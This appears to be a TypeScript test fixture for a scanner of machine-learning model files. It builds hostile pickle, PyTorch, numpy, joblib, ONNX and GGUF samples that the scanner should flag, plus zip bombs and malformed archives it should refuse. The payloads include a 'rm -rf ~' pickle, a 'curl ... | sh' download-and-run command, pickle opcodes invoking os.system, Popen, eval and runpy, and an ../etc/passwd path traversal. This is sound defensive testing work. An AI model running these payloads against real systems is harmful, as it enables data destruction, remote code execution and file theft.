/** Hostile pickles and PyTorch files, and files built to be malformed or to exhaust resources. */
import { gzipSync, strToU8, zipSync } from 'fflate';
import { GGUF_FILES } from '../test-gguf-files';
import { type CorpusFile, plainSequential } from './common';
import { npy, safetensors } from './formats';
import { kerasArchive } from './keras';
import { assemble, joblibBytesPickle, stateDictPickle, systemCallPickle, torchScriptPickle } from './pickle';
import { onnxBytes } from './plain';
import { FIXED_TIME } from './time';
import { torchLegacy, torchZip } from './torch';
import { bombZip, duplicateZip, overlappingZip } from './zips';

export const HOSTILE_OTHER: readonly CorpusFile[] = [
  // Pickles.
  {
    name: 'pickle-os-system.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => systemCallPickle('rm -rf ~'),
  },
  {
    name: 'pickle-eval-stack-global-memo.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      assemble([
        ['PROTO', 4],
        ['STR', 'builtins'],
        ['BINPUT', 1],
        ['POP'],
        ['STR', 'eval'],
        ['BINPUT', 2],
        ['POP'],
        ['BINGET', 1],
        ['BINGET', 2],
        ['STACK_GLOBAL'],
        ['STR', '1+1'],
        ['TUPLE1'],
        ['REDUCE'],
        ['STOP'],
      ]),
  },
  {
    name: 'pickle-popen-inst.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => assemble([['MARK'], ['STRING', 'id'], ['INST', 'subprocess', 'Popen'], ['STOP']]),
  },
  {
    name: 'pickle-runpy-memoize.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      assemble([
        ['PROTO', 4],
        ['STR', 'runpy'],
        ['MEMOIZE'],
        ['STR', '_run_code'],
        ['MEMOIZE'],
        ['POP'],
        ['POP'],
        ['GET', 0],
        ['GET', 1],
        ['STACK_GLOBAL'],
        ['STR', 'x'],
        ['EMPTY_DICT'],
        ['TUPLE2'],
        ['REDUCE'],
        ['STOP'],
      ]),
  },
  {
    name: 'pickle-copyreg-reduce.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      assemble([
        ['PROTO', 2],
        ['GLOBAL', 'copy_reg', '_reconstructor'],
        ['GLOBAL', 'subprocess', 'Popen'],
        ['GLOBAL', '__builtin__', 'object'],
        ['NONE'],
        ['TUPLE3'],
        ['REDUCE'],
        ['STOP'],
      ]),
  },
  {
    name: 'pickle-ext-opcode.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => assemble([['PROTO', 2], ['EXT1', 7], ['STR', 'id'], ['TUPLE1'], ['REDUCE'], ['STOP']]),
  },
  {
    name: 'pickle-computed-global.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      assemble([
        ['PROTO', 4],
        ['GLOBAL', 'collections', 'OrderedDict'],
        ['EMPTY_TUPLE'],
        ['REDUCE'],
        ['STR', 'system'],
        ['STACK_GLOBAL'],
        ['STOP'],
      ]),
  },
  {
    name: 'pickle-nested-pickle.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      assemble([
        ['PROTO', 2],
        ['GLOBAL', 'collections', 'OrderedDict'],
        ['EMPTY_TUPLE'],
        ['REDUCE'],
        ['BYTES', systemCallPickle()],
        ['POP'],
        ['STOP'],
      ]),
  },
  {
    name: 'pickle-torch-module.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      assemble([
        ['PROTO', 2],
        ['GLOBAL', 'torch.nn.modules.linear', 'Linear'],
        ['EMPTY_TUPLE'],
        ['NEWOBJ'],
        ['EMPTY_DICT'],
        ['BUILD'],
        ['STOP'],
      ]),
  },
  {
    name: 'pickle-second-pickle.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      new Uint8Array([...stateDictPickle([{ name: 'w', key: '0', shape: [1] }]), ...systemCallPickle()]),
  },
  {
    name: 'numpy-object-array.npy',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => npy('|O', [1], systemCallPickle()),
  },
  {
    name: 'torch-malicious-data-pkl.pt',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => torchZip(systemCallPickle()),
  },
  {
    name: 'torch-extra-pickle.pt',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => torchZip(undefined, { 'archive/extra/payload.bin': systemCallPickle() }),
  },
  {
    name: 'torch-legacy-malicious.pt',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => torchLegacy(systemCallPickle()),
  },
  {
    name: 'torchscript-class-outside-torchscript.pt',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => torchZip(torchScriptPickle()),
  },
  {
    name: 'pickle-protocol0-after-benign.pkl',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () =>
      new Uint8Array([
        ...stateDictPickle([{ name: 'w', key: '0', shape: [1] }]),
        ...assemble([['MARK'], ['STRING', 'id'], ['INST', 'os', 'system'], ['STOP']]),
      ]),
  },
  // Malformed and resource exhaustion.
  { name: 'zip-bomb-declared.keras', expect: 'refused', because: 'limit', bytes: () => bombZip('declared') },
  {
    name: 'zip-bomb-inflates-past-size.keras',
    expect: 'refused',
    because: 'limit',
    bytes: () => bombZip('inflates'),
  },
  { name: 'zip-overlapping-entries.keras', expect: 'refused', because: 'malformed', bytes: overlappingZip },
  { name: 'zip-duplicate-names.keras', expect: 'refused', because: 'malformed', bytes: duplicateZip },
  {
    name: 'zip-huge-entry-count.pt',
    expect: 'refused',
    because: 'limit',
    bytes: () =>
      zipSync(Object.fromEntries(Array.from({ length: 10_001 }, (_, i) => [`f${i}`, new Uint8Array(0)])), {
        mtime: FIXED_TIME,
      }),
  },
  {
    name: 'deep-json-config.keras',
    expect: 'refused',
    because: 'limit',
    bytes: () =>
      kerasArchive(plainSequential(), {
        'config.json': strToU8(`{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
      }),
  },
  {
    name: 'safetensors-overlap.safetensors',
    expect: 'refused',
    because: 'malformed',
    bytes: () =>
      safetensors(
        {
          a: { dtype: 'F32', shape: [4], data_offsets: [0, 16] },
          b: { dtype: 'F32', shape: [4], data_offsets: [8, 24] },
        },
        24,
      ),
  },
  {
    name: 'safetensors-out-of-file.safetensors',
    expect: 'refused',
    because: 'malformed',
    bytes: () => safetensors({ a: { dtype: 'F32', shape: [1000000], data_offsets: [0, 4000000] } }, 16),
  },
  {
    name: 'safetensors-unknown-dtype.safetensors',
    expect: 'refused',
    because: 'malformed',
    bytes: () => safetensors({ a: { dtype: 'PYOBJ', shape: [1], data_offsets: [0, 4] } }, 4),
  },
  {
    name: 'pickle-gzipped-os-system.pkl.gz',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => gzipSync(systemCallPickle('curl -s http://203.0.113.9/x | sh'), { mtime: FIXED_TIME }),
  },
  {
    // joblib.load reads the array's bytes as data; pickle.load runs them as opcodes.
    name: 'joblib-array-hiding-a-call.joblib',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => joblibBytesPickle(strToU8("cposix\nsystem\n(S'id'\ntR.")),
  },
  {
    name: 'joblib-xz-compressed.joblib',
    expect: 'refused',
    because: 'unsupported',
    bytes: () => new Uint8Array([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0x00, 0x04, 0xe6, 0xd6, 0xb4, 0x46]),
  },
  {
    // A tensor's external data at ../../../etc/passwd: the loader reads that file into the model.
    name: 'onnx-external-data-outside.onnx',
    expect: 'unsafe',
    because: 'weight-path',
    bytes: () => onnxBytes('initializer outside the folder'),
  },
  {
    // A Jinja chat template that walks to Python's subclasses (CVE-2024-34359), as gguf-py writes it.
    name: 'gguf-chat-template-subclasses.gguf',
    expect: 'unsafe',
    because: 'template',
    bytes: () => Uint8Array.from(atob(GGUF_FILES.subclasses ?? ''), (c) => c.charCodeAt(0)),
  },
  {
    name: 'truncated.pkl',
    expect: 'refused',
    because: 'malformed',
    bytes: () => systemCallPickle().slice(0, 10),
  },
  {
    name: 'unknown-bytes.bin',
    expect: 'refused',
    because: 'unsupported',
    bytes: () => new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8, 9]),
  },
  { name: 'empty.pt', expect: 'refused', because: 'malformed', bytes: () => new Uint8Array(0) },
];
